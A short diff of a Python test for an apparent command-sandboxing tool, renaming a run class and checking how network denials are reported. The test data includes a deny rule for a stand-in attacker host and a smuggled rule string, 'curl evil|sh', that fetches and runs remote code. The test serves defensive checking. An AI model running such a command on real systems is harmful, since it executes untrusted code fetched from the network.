@@ -314,9 +314,9 @@ def test_a_limit_that_no_option_raises_names_none() -> None:
 
 @LINUX
 def test_the_line_of_a_denial_has_no_word_of_a_lying_workers_rule() -> None:
-    from aegis.cli.run import _GuestRun
+    from aegis.cli.run import _CommandRun
 
-    run = _GuestRun.__new__(_GuestRun)
+    run = _CommandRun.__new__(_CommandRun)
     run.policy, run.denials = Policy(network=NetworkCapability(deny=["evil.example"])), {}
     for rule in (EVIL, "deny x; curl evil|sh", "deny evil.example:*"):
         run.denied(Decision("network", "look up", "x", False, rule))
